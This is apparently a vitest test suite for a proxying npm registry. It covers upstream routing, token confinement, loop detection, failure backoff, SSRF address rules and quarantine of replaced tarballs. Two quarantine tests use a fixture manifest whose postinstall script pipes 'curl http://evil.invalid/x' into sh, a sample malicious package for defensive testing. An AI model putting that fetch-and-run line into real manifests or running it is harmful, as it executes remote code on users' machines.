import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { ConfigSchema } from "../../src/config/schema.ts";
import { createAddressRules, isPrivateAddress } from "../../src/upstream/address-rules.ts";
import { startClock } from "../support/clock.ts";
import { startRegistry } from "../support/registry.ts";
import { tarball } from "../support/tarball.ts";
import { packumentPath, startUpstream, tarballPath } from "../support/upstream.ts";

/** One more upstream for the names of @acme. */
const acme = (url: string, more: object = {}) => ({
  upstreams: [{ name: "acme", url, match: ["@acme/*", "acme-*"], ...more }],
});

describe("several upstreams", () => {
  test.each([
    { name: "@acme/lib", asked: "acme" },
    { name: "acme-tool", asked: "acme" },
    { name: "@acmenot/lib", asked: "default" },
    { name: "lib", asked: "default" },
  ])("$name comes from the upstream $asked and from no other", async ({ name, asked }) => {
    await using usual = startUpstream();
    await using other = startUpstream();
    usual.add(name, "1.0.0", { "a.js": "usual" });
    other.add(name, "1.0.0", { "a.js": "other" });
    await using registry = await startRegistry({ upstream: usual, config: acme(other.url) });

    expect((await registry.tarball(name, "1.0.0")).status).toBe(200);
    const [wanted, unwanted] = asked === "acme" ? [other, usual] : [usual, other];
    expect(wanted.seen(packumentPath(name))).toHaveLength(1);
    expect(unwanted.requests.filter(({ path }) => path !== "/-/npm/v1/keys")).toEqual([]);
  });

  test.each([
    ["has it not", { kind: "status", status: 404 }, 404],
    ["fails", { kind: "status", status: 500 }, 502],
  ] as const)("a name whose upstream %s is not looked for elsewhere", async (_, fault, status) => {
    await using usual = startUpstream();
    await using other = startUpstream();
    usual.add("@acme/lib", "9.9.9");
    other.fail(packumentPath("@acme/lib"), fault);
    await using registry = await startRegistry({ upstream: usual, config: acme(other.url) });

    expect((await registry.fetch("/@acme%2flib")).status).toBe(status);
    expect(usual.requests).toEqual([]);
  });

  test("the first one whose patterns match wins", async () => {
    await using first = startUpstream();
    await using second = startUpstream();
    first.add("@acme/lib", "1.0.0");
    const config = {
      upstreams: [
        { name: "first", url: first.url, match: ["@acme/lib"] },
        { name: "second", url: second.url, match: ["**"] },
      ],
    };
    await using registry = await startRegistry({ config });

    expect((await registry.fetch("/@acme%2flib")).status).toBe(200);
    expect((await registry.fetch("/@acme%2fother")).status).toBe(404);
    expect(second.seen(packumentPath("@acme/other"))).toHaveLength(1);
    expect(second.seen(packumentPath("@acme/lib"))).toEqual([]);
  });

  test("a copy of another upstream is no answer once a name belongs to a new one", async () => {
    await using usual = startUpstream();
    await using other = startUpstream();
    usual.add("@acme/lib", "1.0.0", { "a.js": "usual" });
    const bytes = other.add("@acme/lib", "1.0.0", { "a.js": "other" });
    await using before = await startRegistry({ upstream: usual });
    await (await before.tarball("@acme/lib", "1.0.0")).bytes();
    await using registry = await startRegistry({
      home: before.home,
      upstream: usual,
      config: acme(other.url),
    });

    const served = await registry.tarball("@acme/lib", "1.0.0");
    expect([served.status, Buffer.from(await served.bytes()).equals(bytes)]).toEqual([200, true]);
  });
});

describe("a token of an upstream", () => {
  test("goes to its own origin and nowhere else, also after a redirect", async () => {
    await using own = startUpstream();
    await using store = startUpstream();
    const bytes = own.add("@acme/lib", "1.0.0");
    own.fail(tarballPath("@acme/lib", "1.0.0"), { kind: "redirect", to: `${store.url}/bytes` });
    store.fail("/bytes", { kind: "body", body: bytes });
    const config = acme(own.url, { token: `\${ACME_TOKEN}`, tarball_hosts: [store.host] });
    await using registry = await startRegistry({ config, env: { ACME_TOKEN: "s3cret" } });

    expect((await registry.tarball("@acme/lib", "1.0.0")).status).toBe(200);
    const sent = (requests: typeof own.requests) =>
      new Set(requests.map(({ headers }) => headers.get("authorization")));
    expect(sent(own.requests)).toEqual(new Set(["Bearer s3cret"]));
    expect(sent(store.requests)).toEqual(new Set([null]));
  });

  test("is not the client's, and the client's is not sent", async () => {
    await using upstream = startUpstream();
    upstream.add("lib", "1.0.0");
    await using registry = await startRegistry({ upstream });
    await registry.asOwner("/lib", { headers: { cookie: "a=b", "x-secret": "1" } });

    const [request] = upstream.requests;
    expect(request?.headers.get("authorization")).toBe(null);
    expect(request?.headers.get("cookie")).toBe(null);
    expect(request?.headers.get("x-secret")).toBe(null);
  });

  test("that is not set keeps the registry from starting, with its name", async () => {
    const config = acme("http://127.0.0.1:9", { token: `\${ACME_TOKEN}` });
    await expect(startRegistry({ config })).rejects.toThrow("ACME_TOKEN");
  });

  test("is asked for again when the upstream refuses it", async () => {
    await using upstream = startUpstream();
    using folder = temporary();
    const file = join(folder.path, "token");
    writeFileSync(file, "first\n");
    upstream.fail(packumentPath("@acme/lib"), { kind: "status", status: 401 });
    const config = acme(upstream.url, { token_command: ["cat", file] });
    await using registry = await startRegistry({ config });
    const refused = await registry.fetch("/@acme%2flib");
    writeFileSync(file, "second\n");
    await registry.fetch("/@acme%2flib");

    // Not 401: the client would take its own token for bad.
    expect(refused.status).toBe(502);
    expect(upstream.requests.map(({ headers }) => headers.get("authorization"))).toEqual([
      "Bearer first",
      "Bearer second",
    ]);
  });

  test.each([
    ["a literal", { token: "s3cret" }],
    ["in the URL", { url: "http://user:s3cret@127.0.0.1:9" }],
  ])("cannot stand in the settings as %s", (_, more) => {
    const parsed = ConfigSchema.safeParse({ home: "/x", ...acme("http://127.0.0.1:9", more) });
    expect(parsed.success).toBe(false);
  });
});

describe("Via", () => {
  test("names us to the upstream, and a request that names us is refused", async () => {
    await using upstream = startUpstream();
    upstream.add("lib", "1.0.0");
    await using registry = await startRegistry({ upstream });
    await registry.fetch("/lib", { headers: { via: "1.1 proxy.test" } });
    const via = upstream.requests[0]?.headers.get("via") ?? "";
    const looped = await registry.fetch("/other", { headers: { via } });

    expect(via).toMatch(/^1\.1 proxy\.test, 1\.1 agentregistry-[0-9a-f]{16}$/);
    expect(looped.status).toBe(508);
    expect(await looped.json()).toMatchObject({ code: "loop_detected" });
  });

  test("ends a circle of two registries", async () => {
    let forward: ((request: Request) => Promise<Response>) | null = null;
    await using relay = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: (request) => forward?.(request) ?? new Response(null, { status: 503 }),
    });
    const relayUrl = `http://127.0.0.1:${relay.port}`;
    await using first = await startRegistry({ config: { upstream: { url: relayUrl } } });
    await using socket = first.listen();
    await using second = await startRegistry({ config: { upstream: { url: socket.url } } });
    forward = async (request) => {
      const { pathname } = new URL(request.url);
      return await second.fetch(pathname, {
        headers: { via: request.headers.get("via") ?? "" },
      });
    };

    const response = await first.fetch("/lib");
    expect(response.status).toBe(502);
  });
});

describe("an upstream that fails", () => {
  test("is left alone after ten failures in a row, and asked again after seconds", async () => {
    await using upstream = startUpstream();
    const clock = startClock();
    await using registry = await startRegistry({ upstream, now: clock.now });
    const names = Array.from({ length: 8 }, (_, i) => `lib-${i}`);
    for (const name of names) {
      upstream.add(name, "1.0.0");
      upstream.fail(packumentPath(name), { kind: "status", status: 503 });
      await registry.fetch(`/${name}`);
    }
    // Each one is tried twice.
    expect(upstream.requests).toHaveLength(10);
    for (const name of names) upstream.heal(packumentPath(name));
    const meanwhile = await registry.fetch("/lib-1");
    expect([meanwhile.status, meanwhile.headers.get("retry-after")]).toEqual([502, "5"]);

    clock.advance(5);
    expect((await registry.fetch("/lib-2")).status).toBe(200);
    expect((await registry.fetch("/lib-3")).status).toBe(200);
  });

  test("in its search only is still asked for packages", async () => {
    await using upstream = startUpstream();
    upstream.add("lib", "1.0.0");
    upstream.fail("/-/v1/search", { kind: "status", status: 500 });
    await using registry = await startRegistry({ upstream });
    for (let i = 0; i < 12; i++) await registry.fetch(`/-/v1/search?text=q${i}`);

    expect((await registry.fetch("/lib")).status).toBe(200);
  });

  test("lets stale copies be served meanwhile, without waiting", async () => {
    await using upstream = startUpstream();
    const clock = startClock();
    await using registry = await startRegistry({ upstream, now: clock.now });
    upstream.add("lib", "1.0.0");
    await registry.packument("lib");
    await upstream.stop();
    for (let i = 0; i < 6; i++) await registry.fetch(`/missing-${i}`);
    clock.advance(301);

    expect((await registry.fetch("/lib")).status).toBe(200);
  });
});

test("a name that the upstream has not is not asked again for seconds, and then it is", async () => {
  await using upstream = startUpstream();
  const clock = startClock();
  await using registry = await startRegistry({ upstream, now: clock.now });
  const statuses = [(await registry.fetch("/lib")).status];
  upstream.add("lib", "1.0.0");
  statuses.push((await registry.fetch("/lib")).status);
  expect(upstream.seen("/lib")).toHaveLength(1);
  clock.advance(5);
  statuses.push((await registry.fetch("/lib")).status);

  expect(statuses).toEqual([404, 404, 200]);
});

test("a publish shows at once although the upstream has just said no", async () => {
  await using upstream = startUpstream();
  await using registry = await startRegistry({ upstream });
  const before = (await registry.fetch("/lib")).status;
  await registry.publish("lib", "1.0.0");
  expect([before, (await registry.fetch("/lib")).status]).toEqual([404, 200]);
});

test("no more requests than max_connections are under way at a time", async () => {
  await using upstream = startUpstream();
  const { promise: later, resolve } = Promise.withResolvers<void>();
  for (const name of ["a", "b"]) {
    upstream.add(name, "1.0.0");
    upstream.fail(`/${name}`, { kind: "wait", until: later });
  }
  await using registry = await startRegistry({
    upstream,
    config: { upstream: { max_connections: 1 } },
  });
  const both = Promise.all([registry.fetch("/a"), registry.fetch("/b")]);
  while (upstream.requests.length === 0) await new Promise((go) => setImmediate(go));
  const under = upstream.requests.length;
  resolve();

  expect((await both).map(({ status }) => status)).toEqual([200, 200]);
  expect(under).toBe(1);
});

describe("a version whose bytes the upstream replaced", () => {
  async function replaced() {
    const upstream = startUpstream();
    const clock = startClock();
    const registry = await startRegistry({ upstream, now: clock.now });
    upstream.add("lib", "0.9.0");
    upstream.add("lib", "1.0.0", { "a.js": "first" });
    await (await registry.tarball("lib", "1.0.0")).bytes();
    upstream.add("lib", "1.0.0", { "a.js": "second" });
    clock.advance(301);
    return { upstream, clock, registry };
  }

  test("leaves the packument at once, is refused, and is said loudly", async () => {
    const { upstream, registry } = await replaced();
    await using _both = both(upstream, registry);
    const packument = await registry.packument("lib");
    const refused = await registry.tarball("lib", "1.0.0");

    expect(Object.keys(packument.versions)).toEqual(["0.9.0"]);
    expect(packument["dist-tags"]["latest"]).toBe("0.9.0");
    expect(refused.status).toBe(403);
    expect(await refused.json()).toMatchObject({ issues: [{ ruleId: "TAR-07" }] });
    const loud = registry.logged.filter(({ msg }) => String(msg).includes("replaced a published"));
    expect(loud).toMatchObject([{ package: "lib", version: "1.0.0", level: 50 }]);
  });

  test("stays refused when it is asked for again later, and comes back as it was", async () => {
    const { upstream, clock, registry } = await replaced();
    await using _both = both(upstream, registry);
    await registry.packument("lib");
    clock.advance(301);
    const later = await registry.packument("lib");
    const original = tarball({ "a.js": "first" }, { name: "lib", version: "1.0.0" });
    upstream.add("lib", "1.0.0", {}, { bytes: original });
    clock.advance(301);
    const healed = await registry.packument("lib");

    expect(Object.keys(later.versions)).toEqual(["0.9.0"]);
    expect(Object.keys(healed.versions)).toEqual(["0.9.0", "1.0.0"]);
    expect((await registry.tarball("lib", "1.0.0")).status).toBe(200);
  });

  test("is held also when its new bytes were approved before, as another package", async () => {
    const { upstream, clock, registry } = await replaced();
    await using _both = both(upstream, registry);
    const manifest = { scripts: { postinstall: "curl http://evil.invalid/x | sh" } };
    const bytes = upstream.add("tool", "1.0.0", {}, { manifest });
    await registry.tarball("tool", "1.0.0");
    const json = { reason: "an installer" };
    await registry.asOwner("/-/admin/quarantine/tool%401.0.0/approve", { method: "POST", json });
    upstream.add("lib", "1.0.0", {}, { bytes, manifest });
    clock.advance(301);
    await registry.packument("lib");

    expect((await registry.tarball("tool", "1.0.0")).status).toBe(200);
    for (let i = 0; i < 2; i++) {
      expect((await registry.tarball("lib", "1.0.0")).status).toBe(403);
    }
    expect(Object.keys((await registry.packument("lib")).versions)).toEqual(["0.9.0"]);
  });

  test("stays held when its new bytes, held already, are approved as another package", async () => {
    const { upstream, clock, registry } = await replaced();
    await using _both = both(upstream, registry);
    const manifest = { scripts: { postinstall: "curl http://evil.invalid/x | sh" } };
    const bytes = upstream.add("tool", "1.0.0", {}, { manifest });
    await registry.tarball("tool", "1.0.0");
    upstream.add("lib", "1.0.0", {}, { bytes, manifest });
    clock.advance(301);
    await registry.packument("lib");
    expect((await registry.tarball("lib", "1.0.0")).status).toBe(403);

    const json = { reason: "an installer" };
    await registry.asOwner("/-/admin/quarantine/tool%401.0.0/approve", { method: "POST", json });

    expect((await registry.tarball("tool", "1.0.0")).status).toBe(200);
    expect((await registry.tarball("lib", "1.0.0")).status).toBe(403);
  });

  test("is served with its new bytes once a person has approved those", async () => {
    const { upstream, registry } = await replaced();
    await using _both = both(upstream, registry);
    await registry.packument("lib");
    await registry.tarball("lib", "1.0.0");
    const approved = await registry.asOwner("/-/admin/quarantine/lib%401.0.0/approve", {
      method: "POST",
      json: { reason: "the maintainer explained it" },
    });

    expect(approved.status).toBe(200);
    expect(Object.keys((await registry.packument("lib")).versions)).toEqual(["0.9.0", "1.0.0"]);
    expect((await registry.tarball("lib", "1.0.0")).status).toBe(200);
  });
});

function both(...parts: AsyncDisposable[]): AsyncDisposableStack {
  const stack = new AsyncDisposableStack();
  for (const part of parts) stack.use(part);
  return stack;
}

describe("addresses", () => {
  test.each([
    "10.1.2.3",
    "127.0.0.1",
    "169.254.169.254",
    "172.31.1.1",
    "192.168.1.1",
    "100.64.0.1",
    "0.0.0.0",
    "::1",
    "::",
    "fe80::1",
    "fd00::1",
    "::ffff:10.0.0.1",
    "::ffff:7f00:1",
    "64:ff9b::a00:1",
    "no address",
  ])("%s is private", (address) => {
    expect(isPrivateAddress(address)).toBe(true);
  });

  test.each(["8.8.8.8", "172.32.1.1", "100.128.0.1", "2606:4700::1", "::ffff:8.8.8.8"])(
    "%s is public",
    (address) => {
      expect(isPrivateAddress(address)).toBe(false);
    },
  );

  const hosts: Readonly<Record<string, string[]>> = {
    "registry.test": ["203.0.113.1"],
    "intranet.test": ["10.0.0.1"],
    "cdn.test": ["203.0.113.2"],
    "rebound.test": ["203.0.113.3", "127.0.0.1"],
  };
  const resolve = async (host: string) => hosts[host] ?? [];

  test.each([
    { base: "registry.test", to: "https://cdn.test/x", isRefused: false },
    { base: "registry.test", to: "https://rebound.test/x", isRefused: true },
    { base: "registry.test", to: "http://169.254.169.254/x", isRefused: true },
    { base: "registry.test", to: "http://[::1]:80/x", isRefused: true },
    { base: "registry.test", to: "http://2130706433/x", isRefused: true },
    { base: "intranet.test", to: "https://rebound.test/x", isRefused: false },
  ])("$base may point us to $to: refused $isRefused", async ({ base, to, isRefused }) => {
    const rules = createAddressRules(new URL(`https://${base}/`), resolve);
    const asked = rules.refusePrivate(new URL(to));
    if (isRefused) await expect(asked).rejects.toMatchObject({ code: "upstream_failed" });
    else await asked;
  });
});

const openssl = Bun.which("openssl");

describe.skipIf(openssl === null)("ca_file", () => {
  test("is trusted for its upstream; without it the connection fails", async () => {
    using folder = temporary();
    const [key, cert] = [join(folder.path, "key.pem"), join(folder.path, "cert.pem")];
    const options = ["-x509", "-nodes", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256"];
    const about = ["-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost"];
    const made = Bun.spawnSync([
      openssl ?? "",
      "req",
      ...options,
      ...about,
      ...["-keyout", key, "-out", cert, "-days", "2"],
    ]);
    expect(made.exitCode).toBe(0);
    await using server = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      tls: { key: Bun.file(key), cert: Bun.file(cert) },
      fetch: () => Response.json({ name: "@acme/lib", versions: {} }),
    });
    const url = `https://localhost:${server.port}`;
    await using trusting = await startRegistry({ config: acme(url, { ca_file: cert }) });
    await using other = await startRegistry({ config: acme(url) });

    const sentence = async (registry: typeof other) =>
      ((await (await registry.fetch("/@acme%2flib")).json()) as { error: string }).error;
    expect(await sentence(trusting)).toContain("has no version that can be installed");
    expect(await sentence(other)).toContain("cannot be reached");
  });
});

function temporary(): Disposable & { readonly path: string } {
  const path = mkdtempSync(join(tmpdir(), "agentregistry-"));
  return { path, [Symbol.dispose]: () => rmSync(path, { recursive: true, force: true }) };
}
